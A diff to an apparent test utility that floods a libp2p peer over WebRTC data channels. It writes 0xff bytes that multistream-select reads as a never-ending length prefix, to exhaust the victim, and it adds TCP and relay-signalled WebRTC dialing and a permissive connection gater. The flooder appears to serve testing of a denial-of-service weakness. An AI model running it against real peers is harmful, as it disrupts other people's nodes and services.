@@ -5,8 +5,11 @@
  *   ip netns exec NS node test/utils/webrtc-flooder.ts ADDR STREAMS SECONDS
  *
  * Node runs this file as it is (type stripping), so it imports libraries
- * only. It dials ADDR (a webrtc-direct address with /certhash and /p2p),
- * asks no STUN server, opens STREAMS data channels and writes bytes that
+ * only. ADDR is a webrtc-direct address (with /certhash and /p2p), or a
+ * TCP one (with /p2p): then it connects over TCP and sets up WebRTC (the
+ * private-to-private transport, what any connected peer may do) through
+ * that connection's signalling. It asks no STUN server, opens STREAMS
+ * data channels and writes bytes that
  * all say "more follows" where multistream-select reads a length prefix,
  * into each until the victim ends it or SECONDS run out. Prints one JSON
  * line: its own peer id and, per stream, the bytes it got written and
@@ -14,7 +17,10 @@
  */
 
 import { createLibp2p } from 'libp2p'
-import { webRTCDirect } from '@libp2p/webrtc'
+import { webRTC, webRTCDirect } from '@libp2p/webrtc'
+import { tcp } from '@libp2p/tcp'
+import { circuitRelayTransport } from '@libp2p/circuit-relay-v2'
+import { identify } from '@libp2p/identify'
 import { noise } from '@chainsafe/libp2p-noise'
 import { yamux } from '@libp2p/yamux'
 import { multiaddr } from '@multiformats/multiaddr'
@@ -23,14 +29,24 @@ import type { Stream, StreamMuxer } from '@libp2p/interface'
 const [addr, streamCount = '4', seconds = '6'] = process.argv.slice(2)
 if (addr == null) throw new Error('usage: webrtc-flooder.ts ADDR [STREAMS] [SECONDS]')
 
+const noStun = { rtcConfiguration: { iceServers: [] } }
 const attacker = await createLibp2p({
-  transports: [webRTCDirect({ rtcConfiguration: { iceServers: [] } })],
+  transports: [webRTCDirect(noStun), webRTC(noStun), tcp(), circuitRelayTransport()],
   connectionEncrypters: [noise()],
   streamMuxers: [yamux()],
+  services: { identify: identify() },
   // the victim is at a loopback address, which libp2p's default gater refuses to dial
   connectionGater: { denyDialMultiaddr: () => false }
 })
-const connection = await attacker.dial(multiaddr(addr), { signal: AbortSignal.timeout(20_000) })
+const signal = AbortSignal.timeout(20_000)
+let webrtcAddr = multiaddr(addr)
+if (!addr.includes('/webrtc-direct/')) {
+  // WebRTC's address for a peer we are connected to: signalling runs on the connection we have
+  await attacker.dial(multiaddr(addr), { signal })
+  webrtcAddr = multiaddr(`${addr}/p2p-circuit/webrtc/p2p/${addr.split('/p2p/')[1]}`)
+}
+const connection = await attacker.dial(webrtcAddr, { signal, force: true })
+if (!connection.remoteAddr.toString().includes('webrtc')) throw new Error(`not a WebRTC connection: ${connection.remoteAddr.toString()}`)
 const chunk = new Uint8Array(16_000).fill(0xff)
 const start = Date.now()
 const until = start + Number(seconds) * 1000
